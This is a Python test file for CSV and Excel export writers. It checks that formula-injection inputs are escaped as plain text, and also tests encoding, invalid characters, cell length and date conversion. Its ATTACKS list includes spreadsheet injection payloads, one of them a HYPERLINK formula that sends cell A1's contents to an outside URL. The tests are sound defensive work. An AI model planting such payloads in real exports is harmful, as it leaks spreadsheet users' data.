"""What stands in a file that was exported, cell by cell."""

from __future__ import annotations

from collective.clockwork.tasks.exports import files
from collective.clockwork.tasks.exports.columns import plain
from collective.clockwork.tasks.exports.files import CSVWriter
from collective.clockwork.tasks.exports.files import XLSXWriter
from DateTime import DateTime
from datetime import date
from datetime import datetime
from datetime import timedelta
from datetime import timezone
from io import BytesIO
from Missing import Value as missing
from openpyxl import load_workbook

import csv
import io
import pytest


EAST = timezone(timedelta(hours=2))
ATTACKS = [
    "=1+1",
    "=HYPERLINK('http://example.org?'&A1)",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r1",
    "  =1",
    "＝1",
]


def written(kind, rows):
    target = BytesIO()
    writer = kind(target)
    for row in rows:
        writer.write(row)
    writer.finish()
    return target.getvalue()


def csv_rows(rows):
    text = written(CSVWriter, rows).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_cells(rows):
    book = load_workbook(BytesIO(written(XLSXWriter, rows)))
    return [list(row) for row in book.active.rows]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_a_text_in_csv(text):
    ((cell,),) = csv_rows([[text]])
    assert cell == f"'{text}"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("tea;=1+1;", "tea;'=1+1;"),
        ('tea; ""=A1&""', 'tea; ""\'=A1&""'),
        ("tea\n@SUM(A1)", "tea\n'@SUM(A1)"),
        ("tea;＝1", "tea;'＝1"),
        ("\r=1", "'\r'=1"),
        ("tea;\r\n\tmilk", "tea;\r\n\tmilk"),
        ("tea; milk\nand 1+1=2", "tea; milk\nand 1+1=2"),
    ],
)
def test_a_formula_behind_what_may_part_cells_is_none_either(text, expected):
    assert csv_rows([[text]]) == [[expected]]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_a_text_in_excel(text):
    ((cell,),) = xlsx_cells([[text]])
    assert cell.data_type == "s"
    assert cell.value.strip() == text.strip()


def test_numbers_stay_numbers():
    assert csv_rows([[-1, 2.5]]) == [["-1", "2.5"]]
    ((first, second),) = xlsx_cells([[-1, 2.5]])
    assert (first.value, second.value) == (-1, 2.5)


def test_a_csv_file_says_that_it_is_utf_8():
    assert written(CSVWriter, [["ä"]]) == b"\xef\xbb\xbf\xc3\xa4\r\n"


def test_quotes_commas_and_lines_stay_in_their_cells():
    row = ['say "no"', "a,b", "one\ntwo", "", "雪"]
    assert csv_rows([row]) == [row]
    assert [cell.value or "" for cell in xlsx_cells([row])[0]] == row


def test_characters_that_no_file_can_have_are_left_out():
    assert csv_rows([["lone \ud800"]]) == [["lone ?"]]
    ((cell,),) = xlsx_cells([["a\x00b\x0bc\ud800d\ufffee\uffff"]])
    assert cell.value == "abcde"


def test_a_text_that_is_too_long_for_a_cell_of_excel_is_cut():
    ((cell,),) = xlsx_cells([["x" * 40_000]])
    assert len(cell.value) == files.CELL_LENGTH
    ((cell,),) = xlsx_cells([["😀" * 40_000]])
    assert cell.value == "😀" * (files.CELL_LENGTH // 2)


def test_what_looks_like_an_error_of_excel_is_a_text():
    ((cell,),) = xlsx_cells([["#DIV/0!"]])
    assert (cell.data_type, cell.value) == ("s", "#DIV/0!")


def test_moments_and_dates():
    moment = datetime(2026, 11, 21, 5, 17, 1, 400, EAST)
    day = date(2026, 11, 21)
    assert csv_rows([[moment, day]]) == [["2026-11-21 05:17:01+02:00", "2026-11-21"]]
    ((first, second),) = xlsx_cells([[moment, day]])
    assert first.value == datetime(2026, 11, 21, 5, 17, 1)
    assert second.value == datetime(2026, 11, 21)


def test_what_excel_does_not_know_as_date_or_number_is_a_text():
    row = [
        datetime(1850, 5, 1, 5, 17, tzinfo=EAST),
        date(1850, 5, 1),
        -(10**15),
        10**400,
    ]
    cells = xlsx_cells([row])[0]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells] == csv_rows([row])[0]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("text", "text"),
        (7, 7),
        (True, "True"),
        (float("inf"), "inf"),
        (("a", "b"), "a, b"),
        ((), ""),
        (None, None),
        (missing, None),
        (DateTime("1969/12/31 00:00:00 UTC"), None),
        (DateTime("2499/12/31 00:00:00 UTC"), None),
        (
            DateTime("2026/11/21 05:17:01 UTC"),
            datetime(2026, 11, 21, 7, 17, 1, tzinfo=EAST),
        ),
        (
            DateTime("9999/12/31 23:30:00 UTC"),
            datetime(9999, 12, 31, 23, 30, tzinfo=timezone.utc),
        ),
        (date(2026, 11, 21), date(2026, 11, 21)),
        ({"a": 1}, "{'a': 1}"),
    ],
)
def test_what_becomes_of_values_of_the_catalog(value, expected):
    assert plain(value, EAST) == expected
